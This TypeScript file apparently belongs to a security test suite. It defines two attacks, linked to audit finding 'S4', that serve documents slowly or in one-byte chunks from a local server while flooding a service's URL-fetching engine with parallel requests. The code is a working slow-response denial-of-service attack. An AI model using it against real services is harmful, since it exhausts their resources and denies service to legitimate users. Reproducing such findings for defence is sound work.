import { createServer } from 'node:http';
import type { Attack } from '../attack.ts';
import { pourInto } from '../held-sockets.ts';
import { persist } from '../persist.ts';
import { listenWhile } from './listen-while.ts';
import { post } from './post.ts';

const HEAD = 'HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n';
/** Ten thousand chunks of one byte. */
const CHUNKS_OF_A_BYTE = Buffer.from('1\r\nA\r\n'.repeat(10_000));
/** Twice as many as its engine takes at once. */
const AT_ONCE = 64;

/** Each is waited for until it is given up; none costs anything. */
export const slowAddresses: Attack = {
  name: 'documents that come slowly from their addresses',
  finding: 'S4',
  run: async ({ funded }, signal) => {
    const web = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'image/png' });
      const drip = setInterval(() => response.write('x'.repeat(2048)), 200);
      response.once('close', () => clearInterval(drip));
    });
    const url = await listenWhile(web, signal);
    await persist(signal, { width: AT_ONCE, pauseMs: 50 }, () =>
      post(funded, { engine: 'instant', input: { type: 'url', url } }, signal),
    );
  },
};

export const choppedAddresses: Attack = {
  name: 'documents that come from their addresses in chunks of one byte',
  finding: 'S4',
  run: async ({ funded }, signal) => {
    const web = createServer(({ socket }) => {
      socket.write(HEAD);
      pourInto(socket, CHUNKS_OF_A_BYTE);
    });
    const url = await listenWhile(web, signal);
    await persist(signal, { width: 4, pauseMs: 50 }, () =>
      post(funded, { engine: 'instant', input: { type: 'url', url } }, signal),
    );
  },
};
